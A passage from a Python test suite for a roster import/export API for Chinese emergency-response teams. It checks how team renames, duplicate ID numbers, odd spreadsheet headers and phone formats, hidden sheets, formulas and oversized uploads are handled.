    assert problems == [(i + 2, "unit") for i in range(len(bad))]
    assert "'十十' is not a unit number" in reply.json()["problems"][0]["message"]

    good = {"十": 10, "一十": 10, "第十二单元": 12, "二十": 20, "九十九": 99, "两": 2, "２": 2}
    rows = [
        member(i + 1, team["name"], unit, f"队员{i}", "队员", f"139000000{i:02d}")
        for i, unit in enumerate(good)
    ]
    reply = await upload(world, csv_file(rows))
    assert reply.status_code == 200, reply.text
    listed = {m["name"]: m["unit"] for m in await members_listed(world)}
    assert listed == {f"队员{i}": unit for i, unit in enumerate(good.values())}


def csv_file(rows: list[list[Any]]) -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADER, *rows])
    return buffer.getvalue().encode()


async def rename(world: World, team: dict[str, Any], name: str) -> None:
    reply = await world.http.patch(
        f"/api/v1/teams/{team['id']}", json={"name": name}, headers=(await world.admin()).headers
    )
    assert reply.status_code == 200, reply.text


async def test_a_renamed_team_takes_its_roster_along(world: World) -> None:
    old, new = "银湖工业区机动应急联防队", "银湖工业区机动应急联防队（二期）"
    team = await world.team("mobile", name=old)
    rows = [member(i, old, 1, f"队员{i}", "队员", f"1390000000{i}") for i in range(1, 5)]
    assert (await upload(world, csv_file(rows))).status_code == 200
    admin = await world.admin()
    before = {m["id"] for m in await members_of(world, team)}

    await rename(world, team, new)

    listed = await members_of(world, team)
    assert {m["id"] for m in listed} == before and {m["group_name"] for m in listed} == {new}
    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "emergency", "format": "csv", "team_id": team["id"]},
        headers=admin.headers,
    )
    exported = list(csv.reader(io.StringIO(reply.content.decode("utf-8-sig"))))
    assert {row[1] for row in exported[1:]} == {new}

    # The export goes back in unchanged; so does the file written before the rename, and the
    # same people under the new name: every time the same four members.
    for again in (reply.content, csv_file(rows), csv_file([[*r[:1], new, *r[2:]] for r in rows])):
        reply = await upload(world, again)
        assert reply.status_code == 200, reply.text
        assert reply.json() | {"format": "?"} == {
            "kind": "emergency",
            "format": "?",
            "rows": 4,
            "groups": [new],
            "created": 0,
            "updated": 4,
            "removed": 0,
        }
        assert {m["id"] for m in await members_of(world, team)} == before
    strength = (await world.http.get("/api/v1/rosters/strength", headers=admin.headers)).json()
    assert [(s["team_name"], s["members"]) for s in strength] == [(new, 4)]


async def members_of(world: World, team: dict[str, Any]) -> list[dict[str, Any]]:
    reply = await world.http.get(
        "/api/v1/rosters/members",
        params={"team_id": team["id"]},
        headers=(await world.admin()).headers,
    )
    assert reply.status_code == 200, reply.text
    found: list[dict[str, Any]] = reply.json()
    return found


async def test_a_former_name_finds_the_team_only_if_no_team_has_it_and_one_had_it(
    world: World,
) -> None:
    one = await world.team("fixed_post", name="三中驻点")
    await rename(world, one, "三中工业园驻点")
    two = await world.team("fixed_post", name="三中驻点")
    row = [member(1, "三中驻点", 1, "甲", "队长", "13800000001")]
    # The name is a team's now: that team's, not the one that had it before.
    reply = await upload(world, csv_file(row))
    assert reply.status_code == 200 and reply.json()["groups"] == ["三中驻点"]
    assert [m["name"] for m in await members_of(world, two)] == ["甲"]
    assert await members_of(world, one) == []

    # Renamed too, both once had the name: the file must say which team it means.
    await rename(world, two, "三中商业街驻点")
    reply = await upload(world, csv_file(row))
    assert reply.status_code == 422, reply.text
    (problem,) = reply.json()["problems"]
    assert problem["field"] == "group_name"
    assert "'三中商业街驻点'" in problem["message"] and "'三中工业园驻点'" in problem["message"]
    # A name no dispatched team has had is refused as before.
    reply = await upload(world, csv_file([member(1, "不存在的队", 1, "乙", "队长", "13800000002")]))
    assert reply.json()["problems"][0]["message"] == (
        "no fixed-post or mobile team is named '不存在的队'"
    )


async def test_a_retired_teams_roster_stays_its_own_when_its_name_is_taken_again(
    world: World,
) -> None:
    admin = await world.admin()
    gone = await world.team("fixed_post", name="大利批发市场驻点应急联防队")
    row = [member(1, gone["name"], 1, "甲", "队长", "13800000001")]
    assert (await upload(world, csv_file(row))).status_code == 200
    await world.http.delete(f"/api/v1/teams/{gone['id']}", headers=admin.headers)
    again = await world.team("fixed_post", name="大利批发市场驻点应急联防队")

    reply = await upload(world, csv_file(row))

    assert reply.status_code == 200, reply.text
    assert (reply.json()["created"], reply.json()["removed"]) == (1, 0)
    assert [m["name"] for m in await members_of(world, again)] == ["甲"]
    assert [m["name"] for m in await members_of(world, gone)] == ["甲"]
    reply = await world.http.post(
        "/api/v1/rosters/members",
        json={
            "kind": "emergency",
            "group_name": again["name"],
            "name": "乙",
            "phone": "13800000001",
            "role": "guard",
        },
        headers=admin.headers,
    )
    assert reply.status_code == 409 and reply.json()["field"] == "phone"


async def test_the_emergency_roster_exported_after_a_team_was_retired_imports_back(
    world: World,
) -> None:
    """The export is the roster of the teams in service, which an import knows: a retired
    team's members stay its own, a record its team_id still exports."""
    admin = await world.admin()
    kept = await world.team("fixed_post", name="银湖驻点应急联防队")
    gone = await world.team("fixed_post", name="大利批发市场驻点应急联防队")
    rows = [
        member(1, kept["name"], "", "陈队长", "队长", "13800138000"),
        member(2, gone["name"], "", "王队长", "队长", "13900139000"),
    ]
    assert (await upload(world, csv_file(rows))).status_code == 200
    await world.http.delete(f"/api/v1/teams/{gone['id']}", headers=admin.headers)

    for fmt in ("xlsx", "csv"):
        reply = await world.http.get(
            "/api/v1/rosters/export",
            params={"kind": "emergency", "format": fmt},
            headers=admin.headers,
        )
        assert "王队长" not in exported_names(reply.content, fmt)
        reply = await upload(world, reply.content)
        assert reply.status_code == 200, reply.text
        assert reply.json() | {"format": "?"} == {
            "kind": "emergency",
            "format": "?",
            "rows": 1,
            "groups": [kept["name"]],
            "created": 0,
            "updated": 1,
            "removed": 0,
        }
    assert [m["name"] for m in await members_of(world, gone)] == ["王队长"]
    reply = await world.http.get(
        "/api/v1/rosters/export",
        params={"kind": "emergency", "format": "csv", "team_id": gone["id"]},
        headers=admin.headers,
    )
    assert exported_names(reply.content, "csv") == ["王队长"]


def exported_names(content: bytes, fmt: str) -> list[str]:
    """The 姓名 column of an exported roster."""
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        sheet = load_workbook(io.BytesIO(content)).worksheets[0]
        rows = [[str(v or "") for v in row] for row in sheet.iter_rows(min_row=2, values_only=True)]
    return [row[rows[0].index("姓名")] for row in rows[1:]]


async def add_member(world: World, kind: str, group_name: str, phone: str, **kw: str) -> Any:
    return await world.http.post(
        "/api/v1/rosters/members",
        json={"kind": kind, "group_name": group_name, "name": "陈大文", "phone": phone}
        | {"role": "guard"}
        | kw,
        headers=(await world.admin()).headers,
    )


async def test_an_id_number_is_on_a_roster_once_added_or_imported(world: World) -> None:
    """One person, one ID number: as a file may not give it twice, a member added or a file
    may not give it to a second member of the roster, so that the roster's export imports
    back. Another roster may have the person too, and a retired team's people serve again."""
    first = await world.team("fixed_post", name="甲驻点队")
    second = await world.team("fixed_post", name="乙驻点队")
    reply = await add_member(world, "emergency", first["name"], "13800138000", id_number=ID_A)
    assert reply.status_code == 201, reply.text

    for team in (first, second):
        reply = await add_member(world, "emergency", team["name"], "13900139000", id_number=ID_A)
        assert reply.status_code == 409, reply.text
        assert reply.json()["field"] == "id_number" and "'甲驻点队'" in reply.json()["detail"]
    row = member(1, second["name"], "", "陈大文", "队长", "13900139000", id_number=ID_A)
    reply = await upload(world, xlsx([row]))
    assert reply.status_code == 422, reply.text
    assert [(p["row"], p["field"]) for p in reply.json()["problems"]] == [(3, "id_number")]
    assert "'甲驻点队'" in reply.json()["problems"][0]["message"]
    assert [m["name"] for m in await members_of(world, second)] == []
    # The file that names the team the member is on replaces him: his number is free to it.
    row = member(1, first["name"], "", "陈大文", "队长", "13700137000", id_number=ID_A)
    reply = await upload(world, xlsx([row]))
    assert reply.status_code == 200, reply.text
    reply = await add_member(world, "watch", "上元村守望队", "13800138000", id_number=ID_A)
    assert reply.status_code == 201, reply.text

    admin = await world.admin()
    export = await world.http.get(
        "/api/v1/rosters/export", params={"kind": "emergency"}, headers=admin.headers
    )
    assert (await upload(world, export.content)).status_code == 200

    await world.http.delete(f"/api/v1/teams/{first['id']}", headers=admin.headers)
    reply = await add_member(world, "emergency", second["name"], "13900139000", id_number=ID_A)
    assert reply.status_code == 201, reply.text


async def test_a_header_padded_with_full_width_spaces_or_written_in_english_is_read(
    world: World,
) -> None:
    """Office templates pad two-character headers to the width of four with an ideographic
    space (姓　名, 职　务), and a roster kept for a bilingual office may head its columns in
    English: both are the plan's columns, not a file without a header."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    admin = await world.admin()
    padded = ["序\u3000号", "队伍名称", "单\u3000元", "姓\u3000名", "职\u3000务", *HEADER[5:]]
    english = ["No.", "Team", "Unit", "Name", "Role", "Phone", "ID Number", "Workplace"]
    for header, who in ((padded, "黄队长"), (english, "林队长")):
        buffer = io.StringIO()
        csv.writer(buffer, lineterminator="\r\n").writerows(
            [header, [1, team["name"], 1, who, "队长", "13800001111", ID_A, "银湖公司"]]
        )
        reply = await upload(world, ("\ufeff" + buffer.getvalue()).encode())
        assert reply.status_code == 200, (header, reply.text)
        members = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
        assert [(m["name"], m["unit"], m["id_number"], m["site"]) for m in members] == [
            (who, 1, ID_A, "银湖公司")
        ]


async def test_a_file_over_the_upload_cap_is_413_naming_the_body_and_nothing_is_written(
    world: World,
) -> None:
    """A roster too large to take, declared so or streamed without a length: refused naming
    what is too large (the body, the file itself), and the roster is as it was."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    admin = await world.admin()
    assert (await upload(world, xlsx(full_team(team["name"])))).status_code == 200
    before = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
    body = xlsx(full_team(team["name"], units=4))
    world.runtime.settings.max_upload_bytes = len(body) - 1

    async def streamed() -> Any:
        yield body[:1000]
        yield body[1000:]

    for content in (body, streamed()):
        reply = await world.http.post(
            "/api/v1/rosters/import",
            params={"kind": "emergency"},
            content=content,
            headers=admin.headers,
        )
        assert reply.status_code == 413, reply.text
        assert reply.json()["error"] == "too_large" and reply.json()["field"] == "body"
        assert str(len(body) - 1) in reply.json()["detail"]
    after = (await world.http.get("/api/v1/rosters/members", headers=admin.headers)).json()
    assert after == before


async def test_a_workbook_whose_roster_follows_a_sheet_of_instructions_is_read(
    world: World,
) -> None:
    """The town's templates open on a sheet of instructions (填表说明) before the roster, and WPS
    saves a workbook's sheets as they were: the roster is the first sheet with a header row,
    not the first sheet. A workbook with no such sheet is still refused for its header."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    workbook = Workbook()
    notes = workbook.active
    assert notes is not None
    notes.title = "填表说明"
    notes.append(["填表说明：联系电话填写11位手机号码，身份证号码请设置为文本格式"])
    notes.append(["姓名、职务为必填项"])
    roster = workbook.create_sheet("花名册")
    roster.append(["清溪镇应急联防队伍人员花名册"])
    roster.append(HEADER)
    roster.append(member(1, team["name"], 1, "黄队长", "队长", "13800001111", id_number=ID_A))
    workbook.create_sheet("Sheet3")
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 200, reply.text
    assert reply.json()["format"] == "xlsx" and reply.json()["created"] == 1
    assert [m["name"] for m in await members_listed(world)] == ["黄队长"]
    del workbook["花名册"]
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 422, reply.text
    assert "no header row" in reply.json()["detail"]
    assert [m["name"] for m in await members_listed(world)] == ["黄队长"]


async def test_a_phone_a_csv_writes_as_a_float_is_read_and_one_in_scientific_notation_is_named(
    world: World,
) -> None:
    """A CSV made from a sheet whose phone column held numbers (pandas, a WPS text export)
    writes 13800001111.0: the whole number, read as it. Excel's CSV of a narrow column writes
    1.38E+10, which has lost the digits: refused naming the row and the column, and why."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    good = csv_file([member(1, team["name"], 1, "黄队长", "队长", "13800001111.0")])
    reply = await upload(world, good)
    assert reply.status_code == 200, reply.text
    assert [m["phone"] for m in await members_listed(world)] == ["13800001111"]
    bad = csv_file(
        [
            member(1, team["name"], 1, "黄队长", "队长", "13800001111"),
            member(2, team["name"], 1, "林队员", "队员", "1.38E+10"),
        ]
    )
    reply = await upload(world, bad)
    assert reply.status_code == 422, reply.text
    [problem] = reply.json()["problems"]
    assert (problem["row"], problem["field"]) == (3, "phone")
    assert "scientific notation" in problem["message"] and "文本" in problem["message"]
    assert [m["name"] for m in await members_listed(world)] == ["黄队长"]


async def test_unicode_text_saved_by_excel_is_read_as_a_table(world: World) -> None:
    """Excel's 另存为 “Unicode 文本(*.txt)”, what offices use when a CSV garbles Chinese, is
    UTF-16 with a byte order mark and tabs between cells: read as the CSV it stands for."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    lines = [HEADER, member(1, team["name"], 1, "黄队长", "队长", "13800001111", id_number=ID_A)]
    text = "".join("\t".join(str(c) for c in line) + "\r\n" for line in lines)
    reply = await upload(world, text.encode("utf-16"))
    assert reply.status_code == 200, reply.text
    assert [(m["name"], m["id_number"]) for m in await members_listed(world)] == [("黄队长", ID_A)]


async def test_a_hidden_sheet_is_read_only_when_no_sheet_in_view_has_the_roster(
    world: World,
) -> None:
    """An office keeps last year's roster in the workbook as a hidden sheet, often the first,
    and edits this year's in view: the roster imported is the one the admin sees, not the
    hidden one. A workbook whose only roster is hidden is still read."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    workbook = Workbook()
    old = workbook.active
    assert old is not None
    old.title = "2025年"
    old.append(HEADER)
    old.append(member(1, team["name"], 1, "去年的队长", "队长", "13800001111"))
    old.sheet_state = "hidden"
    now = workbook.create_sheet("2026年")
    now.append(HEADER)
    now.append(member(1, team["name"], 1, "今年的队长", "队长", "13800001112"))
    workbook.active = 1
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 200, reply.text
    assert [m["name"] for m in await members_listed(world)] == ["今年的队长"]
    del workbook["2026年"]
    workbook.create_sheet("填表说明").append(["联系电话填写11位手机号码"])
    workbook.active = 1
    reply = await upload(world, workbook_bytes(workbook))
    assert reply.status_code == 200, reply.text
    assert [m["name"] for m in await members_listed(world)] == ["去年的队长"]


async def test_an_office_file_other_than_a_workbook_is_named_for_what_it_is(world: World) -> None:
    """A Word document renamed .xlsx (or picked by mistake) is a zip archive as a workbook is:
    named as a Word document, and no refusal names a Python exception."""
    await world.team("fixed_post", name="大利批发市场驻点应急联防队")
    docx = io.BytesIO()
    with zipfile.ZipFile(docx, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    reply = await upload(world, docx.getvalue())
    assert reply.status_code == 415, reply.text
    assert "Word document (.docx)" in reply.json()["detail"], reply.text
    broken = io.BytesIO()
    with zipfile.ZipFile(broken, "w") as archive:
        archive.writestr("xl/workbook.xml", "<not a workbook")
    for body in (broken.getvalue(), docx.getvalue()):
        detail = (await upload(world, body)).json()["detail"]
        assert "Error" not in detail, detail
        assert ".xlsx" in detail, detail


def with_formula(book: bytes, cell: str, saved: str | None = None) -> bytes:
    """The workbook with ``cell`` a formula, its value ``saved`` as Excel and WPS save it, or
    without one, as a script writes it."""
    source, out = zipfile.ZipFile(io.BytesIO(book)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                start = text.index(f'<c r="{cell}"')
                end = text.index("</c>", start) + len("</c>")
                formula = '<f>CONCAT("黄","队长")</f>'
                if saved is None:
                    written = f'<c r="{cell}">{formula}</c>'
                else:
                    written = f'<c r="{cell}" t="str">{formula}<v>{saved}</v></c>'
                text = text[:start] + written + text[end:]
                data = text.encode()
            archive.writestr(info, data)
    return out.getvalue()


async def test_a_formula_without_a_saved_value_is_named_not_read_as_blank(world: World) -> None:
    """Excel and WPS save a formula's value with it; a script writing a roster may not, and
    the cell then reads blank. The refusal says so, naming the row and the column."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    book = xlsx([member(1, team["name"], 1, "黄队长", "队长", "13800001111")], title=None)
    reply = await upload(world, with_formula(book, "D2"))
    assert reply.status_code == 422, reply.text
    [problem] = reply.json()["problems"]
    assert (problem["row"], problem["field"]) == (2, "name"), problem
    assert "formula without a saved value" in problem["message"], problem
    assert "D2" in problem["message"] and "blank" not in problem["message"], problem
    assert await members_listed(world) == []
    reply = await upload(world, with_formula(book, "D2", saved="黄队长"))
    assert reply.status_code == 200, reply.text
    assert [m["name"] for m in await members_listed(world)] == ["黄队长"]


async def test_a_csv_phone_after_an_apostrophe_is_read_and_anything_else_odd_is_named(
    world: World,
) -> None:
    """'13800138000, as typed in Excel to keep the digits as text and kept by some exports, is
    the number; two apostrophes, or one before anything but digits, is refused naming phone."""
    team = await world.team("fixed_post", name="银湖驻点应急联防队")
    good = csv_file([member(1, team["name"], 1, "黄队长", "队长", "'13800138000")])
    reply = await upload(world, good)
    assert reply.status_code == 200, reply.text
    assert [m["phone"] for m in await members_listed(world)] == ["13800138000"]
    for odd in ("''13800138000", "'x13800138000", "13800138000'", "'"):
        bad = csv_file([member(1, team["name"], 1, "黄队长", "队长", odd)])
        reply = await upload(world, bad)
        assert reply.status_code == 422, (odd, reply.text)
        [problem] = reply.json()["problems"]
        assert (problem["row"], problem["field"]) == (2, "phone"), (odd, problem)
